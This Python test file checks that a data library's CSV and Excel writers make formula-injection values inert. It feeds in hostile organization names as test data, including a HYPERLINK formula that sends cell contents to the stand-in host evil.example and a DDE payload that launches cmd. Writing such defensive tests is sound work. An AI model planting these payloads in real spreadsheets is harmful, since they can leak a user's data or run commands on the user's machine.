"""No table the library writes lets a spreadsheet run a cell as a formula.

Organizations named like spreadsheet formulas (and a header that is one) go through every
command that writes a CSV or Excel table; each output is read back as a spreadsheet would
read it (the csv module, openpyxl), and:

* no cell or header starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
  unless it is a plain number, which a spreadsheet reads as that number;
* every hostile name that reached the output is there with its leading ``'``;
* numbers stay numbers (negative ones included): in CSV they are written bare, in Excel
  they are number cells, and no Excel cell holds a formula.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from getting_to_outcomes import load_example, write_table
from getting_to_outcomes.cli import main

SOURCE = "org_capacity"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")

#: Names given to six of the example network's organizations.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3",
    "\tTAB-led",
]
#: A header that is a formula: an unknown column, echoed back in the issues.
HOSTILE_HEADER = '=HYPERLINK("http://evil.example/?h=1","header")'
#: Text cells the library's own writer is given directly, carriage return included.
DIRECT = [*HOSTILE, "\r=1+1"]


@dataclass(frozen=True)
class Output:
    """One file a writer produced, and which of its columns hold numbers."""

    path: Path
    numeric: tuple[str, ...]


def _cli(*args: str) -> str:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code in (0, 1), result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result.stdout


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example network's organization-capacity table, six organizations renamed."""
    table = load_example("cper-network").tables[SOURCE].copy()
    renamed = dict(zip(sorted(table["org_id"].unique()), HOSTILE, strict=False))
    table["org_id"] = table["org_id"].map(lambda org: renamed.get(org, org))
    table[HOSTILE_HEADER] = "@SUM(A1)"
    path = tmp_path_factory.mktemp("hostile") / f"{SOURCE}.csv"
    table.to_csv(path, index=False)
    return path


Writer = Callable[[Path, Path], list[Output]]
SCORE_NUMBERS = ("n", "value", "change", "ci_low")
ROW_NUMBERS = ("row", "members_total")
_REPORTS: dict[Path, Path] = {}


def _valid_rows(suffix: str) -> Writer:
    def write(folder: Path, data: Path) -> list[Output]:
        out = folder / f"valid{suffix}"
        _cli("validate", str(data), "--source", SOURCE, "--format", "json", "--out-valid", str(out))
        return [Output(out, ROW_NUMBERS)]
    return write


def _scores(suffix: str) -> Writer:
    def write(folder: Path, data: Path) -> list[Output]:
        out = folder / f"scores{suffix}"
        _cli("score", str(data), "--source", SOURCE, "--out", str(out))
        return [Output(out, SCORE_NUMBERS)]
    return write


def _printed(command: str, numeric: tuple[str, ...]) -> Writer:
    def write(folder: Path, data: Path) -> list[Output]:
        out = folder / f"{command}.csv"
        out.write_text(_cli(command, str(data), "--source", SOURCE, "--format", "csv"),
                       encoding="utf-8")
        return [Output(out, numeric)]
    return write


def _report(pattern: str) -> Writer:
    def write(folder: Path, data: Path) -> list[Output]:
        if data not in _REPORTS:  # drawn once for both of its table formats
            _cli("report", str(data), "--compare", "--quiet", "--out", str(folder / "report"))
            _REPORTS[data] = folder / "report"
        return [Output(p, ("n", "value")) for p in sorted(_REPORTS[data].glob(pattern))]
    return write


def _direct(suffix: str) -> Writer:
    def write(folder: Path, data: Path) -> list[Output]:
        frame = pd.DataFrame({"label": DIRECT, "change": [-3, -0.5, 2, -1e-3, 0, 7, -2]})
        return [Output(write_table(frame, folder / f"direct{suffix}"), ("change",))]
    return write


WRITERS: dict[str, Writer] = {
    "validate --out-valid csv": _valid_rows(".csv"),
    "validate --out-valid xlsx": _valid_rows(".xlsx"),
    "validate --format csv (issues)": _printed("validate", ()),
    "score --out csv": _scores(".csv"),
    "score --out xlsx": _scores(".xlsx"),
    "score --format csv (standard output)": _printed("score", SCORE_NUMBERS),
    "report tables/*.csv": _report("tables/*.csv"),
    "report tables.xlsx": _report("tables.xlsx"),
    "write_table csv": _direct(".csv"),
    "write_table xlsx": _direct(".xlsx"),
}


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _xlsx_text(value: object) -> object:
    # Excel stores a carriage return in a cell as _x000D_ (ECMA-376 escaping) and shows it
    # as one; openpyxl leaves the escape as it is.
    return value.replace("_x000D_", "\r") if isinstance(value, str) else value


def _cells(output: Output) -> Iterator[tuple[str, object, bool]]:
    """(column, value, is a header) of every cell, as a spreadsheet reads the file."""
    if output.path.suffix == ".xlsx":
        workbook = openpyxl.load_workbook(output.path)
        for sheet in workbook.worksheets:
            rows = list(sheet.iter_rows())
            header = [str(c.value) for c in rows[0]]
            for cell in rows[0]:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                yield str(cell.value), _xlsx_text(cell.value), True
            for row in rows[1:]:
                for name, cell in zip(header, row, strict=False):
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                    yield name, _xlsx_text(cell.value), False
        return
    rows = _csv_rows(output.path)
    for name in rows[0]:
        yield name, name, True
    for row in rows[1:]:
        for name, value in zip(rows[0], row, strict=True):
            yield name, value, False


@pytest.mark.parametrize("writer", list(WRITERS), ids=list(WRITERS))
def test_no_written_cell_runs_as_a_formula_and_numbers_stay_numbers(
    writer: str, data: Path, tmp_path: Path
) -> None:
    outputs = WRITERS[writer](tmp_path, data)
    assert outputs
    seen: set[object] = set()
    numbers = 0
    for output in outputs:
        assert output.path.is_file(), output.path
        for column, value, header in _cells(output):
            seen.add(value)
            if isinstance(value, str) and value.startswith(FORMULA_START):
                assert NUMBER.fullmatch(value), (
                    f"{output.path.name}, column {column!r}: {value!r} would run as a formula")
            if not header and column in output.numeric and value not in ("", None):
                if output.path.suffix == ".xlsx":
                    assert isinstance(value, int | float), (output.path.name, column, value)
                else:
                    assert isinstance(value, str)
                    assert NUMBER.fullmatch(value), (output.path.name, column, value)
                numbers += 1
    # The attack reached the writer and is in the output, made inert.
    assert not {*DIRECT, HOSTILE_HEADER} & seen
    if writer.startswith("write_table"):
        assert {"'" + d for d in DIRECT} <= seen
    elif writer.startswith("validate --format csv"):
        # Only the header is wrong in the data; the issues echo it back.
        assert "'" + HOSTILE_HEADER in seen
    else:
        # Organization names are read as stripped text: the tab-led one arrives without
        # its tab, and the rest as they were typed.
        assert {"'" + h for h in HOSTILE if not h.startswith("\t")} <= seen
        assert "TAB-led" in seen
    if any(output.numeric for output in outputs):
        assert numbers, "no number was checked"
    if "write_table" in writer or "score" in writer:
        # Negative numbers are written as numbers, not escaped as formulas.
        negatives = [v for v in seen if (isinstance(v, int | float) and v < 0)
                     or (isinstance(v, str) and NUMBER.fullmatch(v) and v.startswith("-"))]
        assert negatives


def test_raw_cells_writes_the_values_as_they_are(data: Path, tmp_path: Path) -> None:
    valid = tmp_path / "valid.csv"
    _cli("validate", str(data), "--source", SOURCE, "--out-valid", str(valid), "--raw-cells")
    organizations = {row["org_id"] for row in csv.DictReader(io.StringIO(valid.read_text()))}
    assert set(HOSTILE[:5]) <= organizations
    scores = tmp_path / "scores.xlsx"
    _cli("score", str(data), "--source", SOURCE, "--out", str(scores), "--raw-cells")
    sheet = openpyxl.load_workbook(scores)["indicators"]
    header = [c.value for c in sheet[1]]
    groups = {row[header.index("group")] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert set(HOSTILE[:5]) <= groups
    # Still values, never formulas.
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    issues = _cli("validate", str(data), "--source", SOURCE, "--format", "csv", "--raw-cells")
    assert HOSTILE_HEADER in {row["column"] for row in csv.DictReader(io.StringIO(issues))}
